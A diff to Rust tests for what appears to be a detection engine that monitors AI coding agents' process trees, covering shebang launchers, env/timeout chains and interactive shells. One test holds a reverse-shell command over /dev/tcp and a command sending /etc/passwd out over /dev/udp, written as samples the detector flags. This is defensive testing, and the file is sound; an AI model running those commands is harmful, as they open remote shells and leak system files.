@@ -3788,6 +3788,29 @@ fn a_signal_to_a_process_outside_the_tree_is_l5_and_a_security_service_is_worse(
     );
 }
 
+/// Claude Code (pid AGENT) and its Bash tool's shell (pid 300) running `cmd`.
+fn claude_tool_shell(cmd: &str) -> Vec<Record> {
+    vec![
+        exec(
+            S,
+            AGENT,
+            1,
+            "/usr/bin/claude",
+            &["claude", "-p", "x"],
+            (5, 3),
+        ),
+        fork(S + 1, AGENT, 300),
+        exec(
+            S + 2,
+            300,
+            AGENT,
+            "/usr/bin/bash",
+            &["bash", "-c", cmd],
+            BASH_ID,
+        ),
+    ]
+}
+
 /// pip runs `/bin/sh /usr/bin/lsb_release -a` at every install: a shell running one of the
 /// system's own scripts runs that program, so under a built-in profile (which has no
 /// `python -> sh`) it is not a new shell parent. A shell python starts for anything else (no
@@ -3796,44 +3819,22 @@ fn a_signal_to_a_process_outside_the_tree_is_l5_and_a_security_service_is_worse(
 fn a_shell_running_a_system_script_is_that_program_not_a_new_shell_parent() {
     let run_after = |wrote: Option<&str>, argv: &[&str]| {
         let mut e = engine_judging(Baseline::builtin("claude-code").unwrap());
-        let outs = feed(
-            &mut e,
-            &[
-                exec(
-                    S,
-                    AGENT,
-                    1,
-                    "/usr/bin/claude",
-                    &["claude", "-p", "x"],
-                    (5, 3),
-                ),
-                fork(S + 1, AGENT, 300),
-                exec(
-                    S + 2,
-                    300,
-                    AGENT,
-                    "/usr/bin/bash",
-                    &["bash", "-c", "pip install x"],
-                    BASH_ID,
-                ),
-                fork(S + 3, 300, 301),
-                exec(
-                    S + 4,
-                    301,
-                    300,
-                    "/usr/bin/python3.11",
-                    &["/usr/bin/python3", "/usr/bin/pip", "install", "x"],
-                    (5, 11),
-                ),
-            ],
-        );
-        let mut recs: Vec<Record> = wrote
-            .map(|p| open(S + 5, 301, p, Access::Write, true, (5, 13)))
-            .into_iter()
-            .collect();
+        let mut recs = claude_tool_shell("pip install x");
+        recs.extend([
+            fork(S + 3, 300, 301),
+            exec(
+                S + 4,
+                301,
+                300,
+                "/usr/bin/python3.11",
+                &["/usr/bin/python3", "/usr/bin/pip", "install", "x"],
+                (5, 11),
+            ),
+        ]);
+        recs.extend(wrote.map(|p| open(S + 5, 301, p, Access::Write, true, (5, 13))));
         recs.push(fork(S + 6, 301, 302));
         recs.push(exec(S + 7, 302, 301, "/usr/bin/dash", argv, (5, 12)));
-        let outs = [outs, feed(&mut e, &recs)].concat();
+        let outs = feed(&mut e, &recs);
         alerts(&outs)
             .into_iter()
             .filter(|a| a.pid == 302)
@@ -3852,10 +3853,159 @@ fn a_shell_running_a_system_script_is_that_program_not_a_new_shell_parent() {
         &["/bin/sh", "/usr/bin/../../tmp/x.sh"],
         &["/bin/sh", "/usr/bin/sub/x.sh"],
     ] {
-        assert_eq!(run(argv), ["STRUCTURAL_DRIFT"], "{argv:?}");
+        // (`sh -i` is also a risky binary: an interactive shell.)
+        let got = run(argv);
+        assert!(
+            got.contains(&"STRUCTURAL_DRIFT".to_string()),
+            "{argv:?}: {got:?}"
+        );
     }
     // A script the tree wrote into /usr/bin (a root agent) is the tree's code.
     let mut got = run_after(Some("/usr/bin/helper"), &["/bin/sh", "/usr/bin/helper"]);
     got.sort();
     assert_eq!(got, ["CAUSAL_CYCLE_DETECTED", "STRUCTURAL_DRIFT"]);
+}
+
+/// `#!/usr/bin/env bash` makes env run bash in env's process: what a launcher runs is judged
+/// as run by whoever ran the launcher, so a script's shebang is not a new shell parent, and
+/// python reaching a shell through env or timeout is still python running a shell.
+#[test]
+fn what_a_launcher_runs_is_judged_as_run_by_the_launchers_parent() {
+    let judge = |tail: &[Record]| {
+        let mut e = engine_judging(Baseline::builtin("claude-code").unwrap());
+        let mut recs = claude_tool_shell("./x");
+        recs.extend_from_slice(tail);
+        alerts(&feed(&mut e, &recs))
+            .into_iter()
+            .map(|a| format!("{} {}", a.kind, a.summary))
+            .collect::<Vec<_>>()
+    };
+    let env = |ts: u64, pid: u32, ppid: u32, argv: &[&str]| {
+        exec(ts, pid, ppid, "/usr/bin/env", argv, (5, 20))
+    };
+    // bash runs ./x.sh, whose `#!/usr/bin/env bash` (and a python script's) run in env's pid.
+    let shebangs = judge(&[
+        fork(S + 3, 300, 301),
+        env(S + 4, 301, 300, &["/usr/bin/env", "bash", "./x.sh"]),
+        exec(
+            S + 5,
+            301,
+            300,
+            "/usr/bin/bash",
+            &["bash", "./x.sh"],
+            BASH_ID,
+        ),
+        fork(S + 6, 300, 302),
+        env(S + 7, 302, 300, &["/usr/bin/env", "python3", "./t.py"]),
+        exec(
+            S + 8,
+            302,
+            300,
+            "/usr/bin/python3.11",
+            &["python3", "./t.py"],
+            (5, 11),
+        ),
+    ]);
+    assert!(shebangs.is_empty(), "{shebangs:#?}");
+    // python -> env sh, python -> timeout (which forks) -> sh: python ran a shell.
+    let python = [
+        fork(S + 3, 300, 301),
+        exec(
+            S + 4,
+            301,
+            300,
+            "/usr/bin/python3.11",
+            &["python3", "a.py"],
+            (5, 11),
+        ),
+    ];
+    for tail in [
+        vec![
+            fork(S + 5, 301, 302),
+            env(S + 6, 302, 301, &["env", "sh"]),
+            exec(S + 7, 302, 301, "/usr/bin/dash", &["sh"], (5, 12)),
+        ],
+        vec![
+            fork(S + 5, 301, 302),
+            exec(
+                S + 6,
+                302,
+                301,
+                "/usr/bin/timeout",
+                &["timeout", "9", "sh"],
+                (5, 21),
+            ),
+            fork(S + 7, 302, 303),
+            exec(S + 8, 303, 302, "/usr/bin/dash", &["sh"], (5, 12)),
+        ],
+    ] {
+        let got = judge(&[&python[..], &tail].concat());
+        assert!(
+            got.iter()
+                .any(|a| a.starts_with("STRUCTURAL_DRIFT") && a.contains("python3.11 ran no dash")),
+            "{got:#?}"
+        );
+    }
+    // A launcher whose own parent is unknown is not the root: what it runs is judged.
+    let mut e = engine_judging(Baseline::builtin("claude-code").unwrap());
+    let outs = feed(
+        &mut e,
+        &[
+            fork(S, 500, 501),
+            env(S + 1, 501, 500, &["env", "sh"]),
+            exec(S + 2, 501, 500, "/usr/bin/dash", &["sh"], (5, 12)),
+        ],
+    );
+    assert_eq!(only(&outs, "STRUCTURAL_DRIFT").len(), 1, "{outs:?}");
+}
+
+/// An interactive shell and bash's network redirections are risky: agents run commands, a
+/// reverse shell is `bash -i` with its stdio on `/dev/tcp/HOST/PORT`.
+#[test]
+fn interactive_shells_and_dev_tcp_redirections_are_risky() {
+    let cases: [(&str, &[&str], &str); 4] = [
+        ("/usr/bin/bash", &["bash", "-i"], "T1059.004"),
+        ("/usr/bin/dash", &["sh", "-li"], "T1059.004"),
+        (
+            "/usr/bin/bash",
+            &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"],
+            "T1059.004",
+        ),
+        (
+            "/usr/bin/bash",
+            &["bash", "-c", "cat /etc/passwd > /dev/udp/10.0.0.9/53"],
+            "T1059.004",
+        ),
+    ];
+    each_risky_with_its_technique(&cases);
+    let (mut e, _, _) = learned();
+    let ordinary: [(&str, &[&str]); 4] = [
+        ("/usr/bin/bash", &["bash", "-c", "-l", "ls -i"]),
+        ("/usr/bin/bash", &["bash", "-lc", "grep -ri todo src"]),
+        ("/usr/bin/ssh", &["ssh", "-i", "key", "host"]),
+        ("/usr/bin/bash", &["bash", "--init-file", "x"]),
+    ];
+    // (ssh is risky by its own name, not as an interactive shell.)
+    for (i, (file, argv)) in ordinary.iter().enumerate() {
+        let outs = feed(
+            &mut e,
+            &[
+                fork(T + 10 * i as u64, AGENT, 770 + i as u32),
+                exec(
+                    T + 10 * i as u64 + 1,
+                    770 + i as u32,
+                    AGENT,
+                    file,
+                    argv,
+                    (5, 980 + i as u64),
+                ),
+            ],
+        );
+        let r = only(&outs, "RISKY_BINARY");
+        assert!(
+            r.iter()
+                .all(|a| !a.summary.contains(" -i*`") && !a.summary.contains("*i*`")),
+            "{argv:?}: {r:?}"
+        );
+    }
 }
